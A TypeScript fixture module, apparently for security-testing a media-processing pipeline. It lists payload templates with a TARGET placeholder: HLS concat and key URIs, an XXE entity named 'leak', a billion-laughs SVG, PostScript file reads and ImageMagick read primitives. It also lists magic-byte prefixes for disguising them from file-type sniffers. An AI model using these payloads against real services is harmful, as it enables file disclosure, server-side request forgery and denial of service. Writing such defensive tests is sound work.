/** Texts that media programs follow to other files: playlists, manifests, drawings. `TARGET` is where they lead. */
export const TEXT_TRAPS: Readonly<Record<string, string>> = {
	'HLS playlist': '#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nTARGET\n#EXT-X-ENDLIST\n',
	'HLS playlist with a key': '#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="TARGET"\n#EXTINF:10,\nTARGET\n',
	'HLS playlist with a byte order mark': '\ufeff#EXTM3U\n#EXTINF:10,\nTARGET\n',
	'HLS that concatenates': '#EXTM3U\n#EXTINF:10,\nconcat:TARGET|subfile,,start,0,end,9,,:TARGET\n',
	'DASH manifest':
		'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet><Representation id="1"><BaseURL>TARGET</BaseURL></Representation></AdaptationSet></Period></MPD>',
	'smooth streaming manifest':
		'<SmoothStreamingMedia MajorVersion="2"><StreamIndex Url="TARGET"/></SmoothStreamingMedia>',
	'concat script': "ffconcat version 1.0\nfile 'TARGET'\n",
	ffmetadata: ';FFMETADATA1\ntitle=TARGET\n[CHAPTER]\nTIMEBASE=1/1000\nSTART=0\nEND=1\n',
	'plain playlist': '[playlist]\nFile1=TARGET\nNumberOfEntries=1\n',
	'ASX playlist': '<asx version="3.0"><entry><ref href="TARGET"/></entry></asx>',
	'SMIL presentation': '<smil><body><video src="TARGET"/></body></smil>',
	'session description':
		'v=0\no=- 0 0 IN IP4 127.0.0.1\ns=-\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=TARGET\n',
	'RTSP reference': 'RTSPtext\nTARGET\n',
	'image sequence': 'TARGET%03d.jpg',
	'SVG with an image':
		'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><image xlink:href="TARGET" width="9" height="9"/></svg>',
	'SVG with an entity':
		'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY leak SYSTEM "TARGET">]><svg xmlns="http://www.w3.org/2000/svg"><text>&leak;</text></svg>',
	'SVG of entities':
		'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&c;</text></svg>',
	'HTML page': '<!doctype html><img src="TARGET">',
	PostScript: '%!PS\n(TARGET) (r) file\n',
	'ImageMagick script': 'push graphic-context\nimage over 0,0 0,0 "TARGET"\npop graphic-context\n',
	'ImageMagick label': '<?xml version="1.0"?><image><read filename="TARGET"/></image>',
};

/** First bytes that a sniffer may fall for, in front of a text. */
export const DISGUISES: Readonly<Record<string, Buffer>> = {
	PNG: Buffer.from('89504e470d0a1a0a', 'hex'),
	JPEG: Buffer.from('ffd8ffe000104a46494600', 'hex'),
	GIF: Buffer.from('GIF89a', 'latin1'),
	TIFF: Buffer.from('49492a0008000000', 'hex'),
	BMP: Buffer.from('BM', 'latin1'),
	WebP: Buffer.from('RIFF\x00\x10\x00\x00WEBPVP8 ', 'latin1'),
	MP4: Buffer.from('\x00\x00\x00\x18ftypisom\x00\x00\x00\x00isommp41', 'latin1'),
	Matroska: Buffer.from('1a45dfa3', 'hex'),
	AVI: Buffer.from('RIFF\x00\x10\x00\x00AVI LIST', 'latin1'),
	Ogg: Buffer.from('OggS\0', 'latin1'),
	'transport stream': Buffer.alloc(188 * 5, Buffer.concat([Buffer.from('G'), Buffer.alloc(187, 0xff)])),
	FLV: Buffer.from('464c5601050000000900000000', 'hex'),
	ASF: Buffer.from('3026b2758e66cf11a6d900aa0062ce6c', 'hex'),
	PDF: Buffer.from('%PDF-1.7\n', 'latin1'),
	ZIP: Buffer.from('504b0304', 'hex'),
	gzip: Buffer.from('1f8b0800', 'hex'),
};
